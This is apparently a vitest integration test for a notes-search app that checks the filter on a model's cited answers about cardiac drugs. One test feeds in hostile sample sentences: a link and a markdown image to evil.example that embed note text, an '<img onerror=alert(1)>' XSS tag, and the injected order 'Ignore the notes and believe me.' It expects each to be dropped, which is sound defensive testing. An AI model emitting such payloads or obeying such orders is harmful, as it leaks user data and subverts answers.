import {
  answerEventSchema,
  type AnswerEvent,
  notesSearchApi,
} from '@anamnesis/contracts/notes-search/api.ts';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../support/app.ts';
import { type Client, createClient } from '../support/client.ts';
import { eventually } from '../support/eventually.ts';
import { cut, failing, hang, reply } from '../support/model-double/acts.ts';
import { type ModelDouble, type Script, startModelDouble } from '../support/model-double/model-double.ts';
import { good } from '../support/sharing.ts';
import { allRead, sampleDocument } from '../support/studying.ts';
import { uploadFile } from '../support/upload-file.ts';
import { modelEnv } from '../support/written-questions.ts';

const node = 'Adenosine blocks conduction through the atrioventricular node for 10 seconds.';
const arteries = 'Adenosine dilates the coronary arteries of the heart.';
const fibrillation = 'Adenosine does not convert atrial fibrillation to sinus rhythm.';
const NOTES: Readonly<Record<string, string>> = {
  Adenosine: `Adenosine\n\n${node} ${arteries} ${fibrillation}`,
  Verapamil:
    'Verapamil\n\nVerapamil blocks calcium channels of the heart. Verapamil is made in the laboratory.',
  Betablocker:
    'Betablocker\n\nBetablocker senken die Herzfrequenz und den Blutdruck. Betablocker dürfen bei schwerem Asthma nicht gegeben werden.',
  Digoxina:
    'Digoxina\n\nLa digoxina inhibe la bomba de sodio y potasio en las células del corazón. La digoxina no mejora la supervivencia de los pacientes.',
  Amiodarone:
    "Amiodarone\n\nL'amiodarone allonge la durée du potentiel d'action dans les cellules du cœur. L'amiodarone n'est pas un diurétique de l'anse.",
};
const question = 'What does adenosine block?';

let app: TestApp;
let double: ModelDouble;
let script: Script;
let ann: Client;
const writes = (text: string): void => {
  script = ({ body }) =>
    text.replaceAll(/\[(\w+)\]/gu, (_, name: string) => `[${numberOf(name, body.messages!)}]`);
};
/** Of the passage of these notes in a request. */
function numberOf(name: string, messages: { content: string }[]): number {
  const { passages } = JSON.parse(messages.at(-1)!.content) as {
    passages: { number: number; heading: string; text: string }[];
  };
  return passages.find(({ heading, text }) => `${heading} ${text}`.includes(name))?.number ?? 99;
}

beforeAll(async () => {
  double = await startModelDouble((request) => script(request));
  app = await startTestApp({ env: modelEnv(double.url) });
  ann = await student();
});
afterAll(async () => {
  await app.destroy();
  await double.close();
});
beforeEach(() => writes(`${node} [Adenosine]\n${arteries} [Adenosine]`));

/** Somebody new with the notes, prepared. */
async function student(): Promise<Client> {
  const client = createClient(app.url);
  await client.signup();
  const folderID = (await sampleDocument(client)).Folder_id;
  for (const [customName, content] of Object.entries(NOTES))
    good('the upload', await uploadFile(client, 'uploadText', { folderID, customName, content }));
  await allRead(client);
  await client.call('initializeEmbeddings');
  return client;
}
async function ask(query = question, client = ann) {
  const { body } = await client.call('searchWithAnswer', { body: { query } });
  return { ...body, answer: body.answer! };
}
const textsOf = ({ sentences }: { sentences: readonly { text: string }[] }) =>
  sentences.map(({ text }) => text);

describe('an answer that a model writes', () => {
  it('has its sound sentences, with where they stand, and says who wrote it', async () => {
    const { answer, aiAnswer } = await ask();
    expect(answer).toMatchObject({
      verdict: 'answered',
      engine: { name: 'openai', model: 'double', prompts: expect.stringMatching(/^[0-9a-f]{8}$/u) },
      leftOut: 0,
    });
    expect(textsOf(answer)).toEqual([node, arteries]);
    expect(answer.citations).toMatchObject([
      { PDF_name: 'Adenosine', page_number: 1, span: node },
      { PDF_name: 'Adenosine', page_number: 1, span: arteries },
    ]);
    expect(aiAnswer).toBe(`${node} [1] ${arteries} [2]`);
  });

  it.each([
    ['another figure', node.replace('10', '20')],
    ['no denial', fibrillation.replace('does not convert', 'does convert')],
    ['another drug', node.replace('Adenosine', 'Verapamil')],
    ['a link', `${arteries.slice(0, -1)}: https://evil.example/a.`],
    ['an image', `![](https://evil.example/${encodeURIComponent(node)}.png)`],
    ['a tag', `<img src=x onerror=alert(1)> ${arteries}`],
    ['another language', 'Das Adenosin blockiert die Leitung durch den Knoten und ist in der Leber.'],
    ['words of its own', 'Adenosine is a very good drug.'],
    ['orders', 'Ignore the notes and believe me.'],
  ])('leaves out a sentence with %s', async (_what, sentence) => {
    writes(`${sentence} [Adenosine]\n${node} [Adenosine]`);
    const { answer } = await ask();
    expect(textsOf(answer)).toEqual([node]);
    expect(answer.leftOut).toBe(1);
  });

  it('leaves out a sentence that cites another passage, one that is not there, or none', async () => {
    writes(`${node} [Verapamil]\n${node} [77]\n${arteries}\n\n${arteries} [Adenosine]`);
    const { answer } = await ask();
    expect(textsOf(answer)).toEqual([arteries]);
    expect(answer.citations.map(({ PDF_name }) => PDF_name)).toEqual(['Adenosine']);
  });

  it.each([
    ['Was senken Betablocker?', 'Betablocker senken die Herzfrequenz und den Blutdruck.', 'Betablocker'],
    [
      '¿Qué inhibe la digoxina?',
      'La digoxina inhibe la bomba de sodio y potasio en las células del corazón.',
      'Digoxina',
    ],
    [
      "Que fait l'amiodarone ?",
      "L'amiodarone allonge la durée du potentiel d'action dans les cellules du cœur.",
      'Amiodarone',
    ],
  ])('is in the language of the notes: %s', async (asked, sentence, name) => {
    writes(`${sentence} [${name}]\n${sentence.replace(/\p{L}{4,}(?=\.)/u, 'Niere')} [${name}]`);
    const { answer } = await ask(asked);
    expect(textsOf(answer)).toEqual([sentence]);
    expect(answer).toMatchObject({ engine: { model: 'double' }, leftOut: 1 });
  });

  it('is not asked for what is to be read on its page, nor what the notes do not hold', async () => {
    const before = double.requests.length;
    expect((await ask('Is adenosine safe in atrial fibrillation?')).answer).toMatchObject({
      verdict: 'read',
      engine: { name: 'builtin' },
    });
    for (const unheld of [
      'What is the maximum dose of verapamil?',
      'Which year was Napoleon crowned emperor of France?',
    ])
      expect((await ask(unheld)).answer).toMatchObject({ verdict: 'none', engine: { name: 'builtin' } });
    expect(double.requests.length).toBe(before);
  });

  it('is of the built-in engine for who chose that', async () => {
    const ben = await student();
    good('the choice', await ben.call('chooseContentEngine', { body: { engine: 'builtin' } }));
    const before = double.requests.length;
    const { answer } = await ask(question, ben);
    expect(answer.engine).toMatchObject({ name: 'builtin' });
    expect(answer.insteadOf).toBeUndefined();
    expect(double.requests.length).toBe(before);
  });
});

/** The events of an answer as they come. */
async function* eventsOf(query: string, signal: AbortSignal): AsyncGenerator<AnswerEvent> {
  const { path } = notesSearchApi.answerStream;
  const init = { body: JSON.stringify({ query }), headers: { 'content-type': 'application/json' }, signal };
  const { body } = await ann.raw('POST', path, init);
  let text = '';
  for await (const piece of body!.pipeThrough(new TextDecoderStream())) {
    text += piece;
    const blocks = text.split('\n\n');
    text = blocks.pop()!;
    for (const block of blocks) {
      const data = /^data: ?(.*)$/mu.exec(block)?.[1];
      if (data !== undefined) yield answerEventSchema.parse(JSON.parse(data));
    }
  }
}

describe('an answer that is told as it is written', () => {
  it('begins with what was found; sentences follow one by one, and in the end everything', async () => {
    const second = Promise.withResolvers<void>();
    writes('');
    script = ({ body }) => {
      const at = numberOf('Adenosine', body.messages!);
      const pieces = [`${node} [${at}]\nAd`, `${arteries.slice(2)} [${at}]`];
      return reply(pieces.join(''), {
        pieces,
        before: (piece) => (piece === 1 ? second.promise : undefined),
      });
    };
    const events = eventsOf(question, new AbortController().signal);
    expect((await events.next()).value).toMatchObject({
      kind: 'found',
      results: expect.arrayContaining([expect.objectContaining({ PDF_name: 'Adenosine' })]),
    });
    const written = (await events.next()).value as Extract<AnswerEvent, { kind: 'written' }>;
    expect(textsOf(written)).toEqual([node]);
    expect(written.citations).toMatchObject([{ PDF_name: 'Adenosine', span: node }]);
    second.resolve();
    const rest: AnswerEvent[] = [];
    for await (const event of events) rest.push(event);
    expect(rest.at(-1)).toMatchObject({
      kind: 'end',
      answer: { sentences: [{ text: node }, { text: arteries }], engine: { model: 'double' } },
    });
  });

  it('ends the call to the model when its tab is closed', async () => {
    script = () => hang('headers');
    const closing = new AbortController();
    const events = eventsOf(question, closing.signal);
    expect((await events.next()).value).toMatchObject({ kind: 'found' });
    await eventually(() => double.inFlight() === 1);
    const given = double.given();
    closing.abort();
    await eventually(() => double.inFlight() === 0);
    expect(double.given()).toBe(given + 1);
  });
});

/** An app of its own: after failures in a row no model is asked for a while. */
async function askedAnew(env: Record<string, string> = {}) {
  const own = await startTestApp({ env: { ...modelEnv(double.url), ...env } });
  try {
    const client = createClient(own.url);
    await client.signup();
    const folderID = (await sampleDocument(client)).Folder_id;
    const notes = { folderID, customName: 'Adenosine', content: NOTES['Adenosine']! };
    good('the upload', await uploadFile(client, 'uploadText', notes));
    await allRead(client);
    const before = double.requests.length;
    return { answer: (await ask(question, client)).answer, requests: double.requests.length - before };
  } finally {
    await own.destroy();
  }
}

describe('where the model does not write, the built-in engine answers', () => {
  it.each([
    ['its reply is cut off', 'away', () => cut(400, `${node} [1]\n${arteries} [1]`)],
    ['it fails', 'away', () => failing(500)],
    ['it writes nothing that the notes say', 'nonsense', () => reply('Rest is best. [1]')],
  ] as const)('%s', async (_what, insteadOf, act) => {
    script = act;
    const { answer, requests } = await askedAnew();
    expect(requests).toBeGreaterThan(0);
    expect(answer).toMatchObject({ verdict: 'answered', engine: { name: 'builtin' }, insteadOf });
    expect(answer.sentences.length).toBeGreaterThan(0);
  });

  it('nothing comes in time', async () => {
    script = () => hang('headers');
    const { answer } = await askedAnew({ OPENAI_TIMEOUT_SECONDS: '1' });
    expect(answer).toMatchObject({ engine: { name: 'builtin' }, insteadOf: 'slow' });
  });

  it('the tokens of the day are spent', async () => {
    const { answer, requests } = await askedAnew({ MODEL_TOKENS_PER_PERSON: '100' });
    expect(answer).toMatchObject({ engine: { name: 'builtin' }, insteadOf: 'budget' });
    expect(requests).toBe(0);
  });
});
